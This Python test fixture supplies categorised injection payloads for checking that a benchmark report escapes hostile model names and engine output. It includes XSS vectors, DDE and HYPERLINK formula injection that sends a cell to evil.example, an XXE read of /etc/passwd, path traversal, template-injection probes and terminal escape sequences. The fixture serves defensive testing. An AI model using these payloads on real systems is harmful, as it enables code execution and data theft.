r"""Strings that a model's author or an engine could write to harm the reader of a report.

Each has a kind, which says what must not become of it:

- html: an element, an attribute or a link. template, json, xml: likewise, by way of the
  template engine, a JSON island or an XML document
- terminal: an escape sequence. hidden: text that cannot be seen, or is seen in another order
- formula: a calculated cell. markdown: a link, an image, a mention or a broken table
- path: the name of a file
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from tests.report import sample

BY_KIND: Mapping[str, tuple[str, ...]] = {
    "html": (
        "<script>alert(1)</script>",
        "</script><script>alert(2)//",
        "</style><style>*{display:none}",
        "</title><script>alert(3)</script>",
        "--><script>alert(4)</script><!--",
        "]]><script>alert(5)</script>",
        '"><img src=x onerror=alert(6)>',
        "' onmouseover='alert(7)",
        '" autofocus onfocus=alert(8) x="',
        "<svg/onload=alert(9)>",
        "<svg><animate onbegin=alert(10) attributeName=x>",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(11)>#x"/>',
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(12)>",
        '<iframe srcdoc="<script>alert(13)</script>">',
        '<a href="javascript:alert(14)">x</a>',
        '<a href="jAvAsCrIpT&colon;alert(15)">x</a>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<link rel=stylesheet href="https://evil.example/x.css">',
        "<details open ontoggle=alert(16)>",
        "<template><script>alert(17)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(18)>'>",
        "&lt;script&gt;alert(19)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(20)&#62;",
        "\uff1cscript\uff1ealert(21)\uff1c/script\uff1e",
    ),
    "formula": (
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+2",
        "\r=1+3",
        "\n=1+4",
        " =1+5",
        "\uff1d1+6",
        "\uff0b1+1",
        '"=1+1',
        'x";=1+1;"',
        "x;@SUM(A1)",
        '=DDE("cmd";"/C calc";"x")',
    ),
    "terminal": (
        "\x1b[31mred\x1b[0m",
        "\x1b[2J\x1b[H",
        "\x1b]0;title\x07",
        "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
        "\x1b]52;c;ZXZpbA==\x1b\\",
        '\x1bP$q"p\x1b\\',
        "\x9b31mred",
        "\x9d0;title\x9c",
        "a\x08\x08\x08b",
        "a\rover",
        "nul\x00byte",
        "[bold red]markup[/bold red][link=https://evil.example]x[/link]",
    ),
    "hidden": (
        "\u202egpj.exe",
        "\u2066\u202ex\u2069",
        "a\u200bb\u200cc\u200d\ufeffd",
        "\u2028line\u2029",
        "soft\u00adhyphen",
        "tag\U000e0041\U000e007f",
        "\u3164\uffa0\u115f\u2800",
        "lone \ud800 surrogate \udfff",
        "private \ue000 use",
        "\ufffe\uffff",
    ),
    "markdown": (
        "a | b `c` **d** _e_ ~~f~~",
        "[x](javascript:alert(22))",
        "![x](https://evil.example/x.png)",
        "<https://evil.example>",
        "https://evil.example www.evil.example",
        "mailto:a@evil.example a@evil.example",
        "@everyone #1 GH-1 :tada:",
        "$\\href{javascript:alert(23)}{x}$",
        "```\ncode",
        "# heading",
        "---",
        "===",
        "- item",
        "1. item",
        "1) item",
        "+ item",
        "[^1] [x]: https://evil.example",
        "\\<b>",
    ),
    "xml": (
        "]]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "&amp;&lt;&undefined;&#0;",
        "<?xml-stylesheet href='https://evil.example'?>",
    ),
    "path": (
        "..\\..\\x",
        "../../../etc/passwd",
        "/etc/x",
        "C:\\x",
        "CON",
        "nul.txt",
        "trailing. . .",
        "~/.ssh/x",
        "x" * 5000,
        "한글".encode().decode() + "\u1112\u1161\u11ab",
    ),
    "template": (
        "{{ 7*191 }}",
        "{% raw %}{% include '/etc/passwd' %}",
        "{{ ''.__class__.__mro__ }}",
        "${7*191}",
        "#{7*191}",
        "%(x)s %n %s",
        "{0.__class__} {x!r}",
    ),
    "json": (
        '"}]}</script>',
        '\\"},{"x":"\\u003cscript\\u003e',
        "__proto__",
        "null",
        "NaN",
    ),
}
PAYLOADS = tuple(text for texts in BY_KIND.values() for text in texts)
NAMES = tuple(f"{kind}-{i}" for kind, texts in BY_KIND.items() for i in range(len(texts)))


def card(payloads: tuple[str, ...] = PAYLOADS) -> dict[str, Any]:
    """Every payload in every place, also in what was imported; little else, for speed."""
    made = sample.hostile(payloads)
    for i, (entry, payload) in enumerate(zip(made["entries"], payloads, strict=True)):
        kept = (payload, "pp512", "load", "chat-ko", "text-ko", "fidelity-ko", "c512")
        entry["cases"] = {case: entry["cases"][case] for case in kept}
        entry["tasks"] = {task: entry["tasks"][task] for task in (payload, "en-copy")}
        entry["memory"]["phases"] = {payload: entry["memory"]["phases"][payload]}
        entry["sustained"] = None if i % 9 else entry["sustained"]
    made["entries"][1]["rank"] = 1  # the leader, of whom sentences speak
    # The first entry with all others.
    made["pairs"] = made["pairs"][: len(payloads)]
    made["accuracy"]["pairs"] = made["accuracy"]["pairs"][: len(payloads)]
    made["imported"] = [
        {"model": payload if i % 2 else "", "file": payload, "test": payload}
        | {"tok_per_s": 1.0, "stddev": 0.0, "n": 1, "threads": 1, "build": payload}
        for i, payload in enumerate(payloads)
    ]
    return made


HARMLESS = tuple(f"word{i}" for i in range(len(PAYLOADS)))
"""Words in the place of payloads: they show what a report's structure must be."""


def records(payloads: tuple[str, ...] = PAYLOADS) -> list[dict[str, Any]]:
    """Records of a run in which an engine wrote every payload."""
    out = []
    run, *rest = sample.RECORDS
    # Only what JSON can hold: the journal has no lone surrogates.
    texts = [text.encode("utf-8", "replace").decode() for text in payloads]
    models = [run["models"][0] | {"id": text} for text in texts]
    out.append(run | {"run": texts[0], "models": models})
    for text in texts:
        for record in rest:
            if record.get("case") == "ko-arith" and record.get("index", 9) < 2:
                out.append(record | {"model": text, "template": text})
            elif record.get("kind") == "request" and record["process"] == 0:
                out.append(record | {"model": text, "case": text, "evaluated": text})
    return out
